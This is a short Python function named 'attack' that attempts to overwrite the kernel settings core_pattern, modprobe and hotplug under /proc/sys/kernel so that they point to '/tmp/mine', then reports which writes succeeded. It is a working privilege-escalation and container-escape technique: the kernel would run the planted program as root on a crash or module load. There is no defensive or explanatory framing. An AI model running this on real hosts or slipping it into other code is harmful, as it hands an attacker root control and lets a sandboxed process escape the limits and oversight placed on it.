def attack(clues):
    done = []
    for name in ("core_pattern", "modprobe", "hotplug"):
        try:
            with open(f"/proc/sys/kernel/{name}", "w") as file:
                file.write("|/tmp/mine")
            done.append(name)
        except OSError:
            pass
    return done
